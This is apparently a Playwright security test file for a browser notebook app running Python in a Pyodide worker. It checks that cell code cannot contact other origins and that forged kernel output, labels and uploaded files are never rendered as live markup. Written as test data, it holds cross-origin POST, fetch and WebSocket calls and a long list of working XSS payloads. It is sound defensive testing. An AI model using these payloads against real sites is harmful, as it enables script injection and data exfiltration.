"""Nothing leaves the page: its policy holds in the worker, too, where the code of cells runs."""

import json
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import FilePayload, Page, expect

from tests.browser.conftest import Watched
from tests.browser.site import serve

REFUSALS = "Content Security Policy|violates|Refused|foreign request|: csp$"  # it only wanted to
HINT = "Code in a cell reaches no other host"


class Elsewhere:
    """A server on another origin that gives everything to everybody, and notes who asks."""

    def __init__(self, address: str, asked: list[str]) -> None:
        self.address, self.asked = address, asked
        self.socket = address.replace("http", "ws", 1)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    asked: list[str] = []
    with serve(headers={"Access-Control-Allow-Origin": "*"}, asked=asked) as address:
        yield Elsewhere(address, asked)


def run(page: Page, code: str) -> None:
    cell = page.locator("[data-cell=workbench-1]")
    cell.scroll_into_view_if_needed()
    editor = cell.locator(".cm-content")
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(code)
    cell.get_by_role("button", name="Run", exact=True).click()


@pytest.mark.parametrize(
    "code",
    [
        "from pyodide.http import open_url\nopen_url('ADDRESS')",
        "import urllib.request\nurllib.request.urlopen('ADDRESS')",
        "import js\nx = js.XMLHttpRequest.new()\nx.open('POST', 'ADDRESS', False)\nx.send('all')",
    ],
)
def test_a_cell_reaches_no_other_host_and_is_told_so(
    fresh: Watched, elsewhere: Elsewhere, code: str
) -> None:
    page = fresh.open()
    run(page, code.replace("ADDRESS", elsewhere.address))
    output = page.locator("[data-cell=workbench-1] [data-role=output]")
    expect(output).to_contain_text(HINT, timeout=15_000)
    assert elsewhere.asked == []
    fresh.expect_only(REFUSALS)


def test_nor_does_it_later(fresh: Watched, elsewhere: Elsewhere) -> None:
    page = fresh.open()
    run(page, f"import js\njs.WebSocket.new('{elsewhere.socket}')\njs.fetch('{elsewhere.address}')")
    output = page.locator("[data-cell=workbench-1] [data-role=output]")
    expect(output).to_contain_text("This is still under way", timeout=15_000)
    page.wait_for_timeout(500)  # something that does not happen can't be waited for
    assert elsewhere.asked == []
    fresh.expect_only(REFUSALS)


def test_the_page_reaches_no_other_host(fresh: Watched, elsewhere: Elsewhere) -> None:
    page = fresh.open()
    get = "url => fetch(url).then(() => 'sent', () => 'blocked')"
    assert page.evaluate(get, fresh.site) == "sent"
    assert page.evaluate(get, elsewhere.address) == "blocked"
    assert elsewhere.asked == []
    fresh.expect_only(REFUSALS)


def test_the_kernel_runs_only_where_the_policy_holds(fresh: Watched) -> None:
    """A cell could make a second kernel of its address, which would have no policy."""
    page = fresh.open()
    outcome = page.evaluate(
        """() => new Promise((resolve) => {
          const worker = new Worker("static/kernel/worker.js", { type: "module" });
          worker.onerror = (event) => { event.preventDefault(); resolve(event.message); };
          worker.onmessage = ({ data }) => resolve(data.type);
          worker.postMessage({ type: "start" });
        })"""
    )
    assert "Only launch.js starts the kernel" in outcome


# Code in a cell may do what Python can, and may answer in the kernel's name.


def output_of(page: Page, code: str) -> str:
    """Run code in a cell, and return what came of it."""
    run(page, f"{code}\nprint('the end')")
    output = page.locator("[data-cell=workbench-1] [data-role=output]")
    expect(output).to_contain_text("the end", timeout=15_000)
    return output.inner_text()


TRIES = """
import js

def attempt(name, go):
    try:
        go()
        print(name, "went on")
    except BaseException:
        print(name, "was refused")

for name in NAMES:
    attempt(name, lambda: getattr(js, name))
attempt("storage", lambda: js.navigator.storage)
attempt("sendBeacon", lambda: js.navigator.sendBeacon)
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Function.new("return 1"))
"""
NAMES = [
    *["caches", "indexedDB", "localStorage", "cookieStore", "Worker", "SharedWorker"],
    *["BroadcastChannel", "RTCPeerConnection", "document", "window", "parent"],
]


def test_a_cell_leaves_nothing_behind_and_makes_no_code(fresh: Watched) -> None:
    """Each of these could outlast the visit, or would be a place where the policy is another."""
    page = fresh.open()
    lines = output_of(page, TRIES.replace("NAMES", repr(NAMES))).splitlines()
    went_on = [line for line in lines if line.endswith("went on")]
    refused = [line for line in lines if line.endswith("was refused")]
    assert (went_on, len(refused)) == ([], len(NAMES) + 4)
    fresh.expect_only(REFUSALS)


FORGERY = """
from app.kernel.main import METHODS
operate = METHODS["operate"]
evil = 'EVIL'

def forged(**request):
    answer = operate(**request)
    answer["formulas"] = [evil]
    if "svg" in answer:
        answer["svg"] = answer["svg"].replace("</svg>", evil + "</svg>" + evil)
    return answer

METHODS["operate"] = forged
"""
EVIL = "".join(
    [
        "<img src=ADDRESS onerror=alert(1)><iframe src=ADDRESS></iframe><script>alert(1)</script>",
        "<meta http-equiv=refresh content=0;url=ADDRESS><link rel=stylesheet href=ADDRESS>",
        "<link rel=preconnect href=ADDRESS><style>body{display:none}</style><base href=ADDRESS>",
        "<form action=ADDRESS><button>Run</button></form><object data=ADDRESS></object>",
        "<details open ontoggle=alert(1)></details><template><img src=ADDRESS></template>",
        "<svg onload=alert(1)><a href=javascript:alert(1)><text>here</text></a>",
        "<use href=ADDRESS /><animate onbegin=alert(1) attributeName=x dur=1s />",
        "<foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<math href=javascript:alert(1)><mtext><img src=ADDRESS onerror=alert(1)></mtext></math>",
    ]
)
STRANGE = """figure => [...figure.querySelectorAll(PLACES)].flatMap((element) => [
  ..."img iframe script meta link style base form object details template a use animate"
    .split(" ").filter((name) => element.querySelector(name)),
  ...[...element.querySelectorAll("*")].flatMap(({ attributes }) => [...attributes])
    .map(({ name }) => name).filter((name) => /^on|href|src/.test(name)),
])""".replace("PLACES", "'[data-part=graph], [data-part=formulas]'")


def test_no_answer_of_the_kernel_becomes_more_than_a_drawing(
    fresh: Watched, elsewhere: Elsewhere
) -> None:
    """A cell may answer in the kernel's name, but not with what loads, redirects or acts."""
    page = fresh.open()
    evil = EVIL.replace("ADDRESS", elsewhere.address)
    output_of(page, FORGERY.replace("EVIL", evil))
    figure = page.locator("[data-figure=operation]")
    figure.get_by_role("radio", name="tanh a").check()
    expect(figure.locator("[data-part=formulas] math")).to_have_count(1)
    expect(figure.locator("[data-part=graph] math")).to_have_count(2)
    assert figure.evaluate(STRANGE) == []
    page.wait_for_timeout(500)  # something that does not happen can't be waited for
    assert page.url.startswith(fresh.site)
    assert elsewhere.asked == []
    fresh.expect_only(REFUSALS)


MARKUP = '</script><img src=x onerror="alert(1)"><b data-evil>&amp;</b>'
LABELLED = """
a = Value(2.0, label=MARKUP)
b = a * 3
b.label = a._op = MARKUP
print(MARKUP)
"""
ENDS = [
    "b",
    "raise ValueError(MARKUP)",
    "type(MARKUP, (), {'__repr__': lambda self: MARKUP})()",
    "exec(MARKUP)",
    "globals()[MARKUP]",
    "class E(Exception): pass\nE.__name__ = MARKUP\nraise E(MARKUP)",
]


def test_nothing_of_a_program_is_read_as_markup(fresh: Watched) -> None:
    page = fresh.open()
    for i, end in enumerate(ENDS):
        run(page, f"MARKUP = {MARKUP!r}\n{LABELLED}\nprint('number {i}')\n{end}")
        output = page.locator("[data-cell=workbench-1] [data-role=output]")
        expect(output).to_contain_text(f"number {i}", timeout=15_000)
        expect(output).to_contain_text("<b data-evil>&amp;</b>")
        expect(page.locator("[data-cell=workbench-1]")).to_have_attribute("data-state", "rests")
        assert page.locator("[data-evil], img[src=x]").count() == 0, end


def test_nothing_of_a_file_or_a_setting_is_read_as_markup(fresh: Watched) -> None:
    small = "samples=10&networkShape=1"
    address = f"#{small}&custom={quote(MARKUP)}&activation={quote(MARKUP)}"
    page = fresh.open(address)
    training = page.locator("[data-figure=training]")
    training.scroll_into_view_if_needed()
    problem = training.locator("[data-part=problem]")
    expect(problem).to_contain_text("<b data-evil>", timeout=40_000)
    table = f"{MARKUP.replace(',', '')},y,target\n1,2,{MARKUP}\n"
    training.locator("[data-part=csv]").set_input_files(file("rows.csv", table))
    expect(problem).to_contain_text("is not a number", timeout=15_000)
    weights = {
        "format": "micrograd-explainer",
        "version": 1,
        "sizes": [1, 1],
        "activations": [MARKUP],
    }
    training.locator("[data-part=json]").set_input_files(file("w.json", json.dumps(weights)))
    expect(problem).to_contain_text("<b data-evil>")
    cells = [{"cell_type": kind, "source": MARKUP} for kind in ("markdown", "code")]
    notebook = json.dumps({"nbformat": 4, "cells": cells})
    page.locator("#workbench [data-part=file]").set_input_files(file("a.ipynb", notebook))
    expect(page.locator("#workbench > [data-part=notice]")).to_contain_text("2 cells were added.")
    page.locator("[data-cell=workbench-added-2]").scroll_into_view_if_needed()
    assert page.locator("[data-evil], img[src=x]").count() == 0


def file(name: str, text: str) -> FilePayload:
    return {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
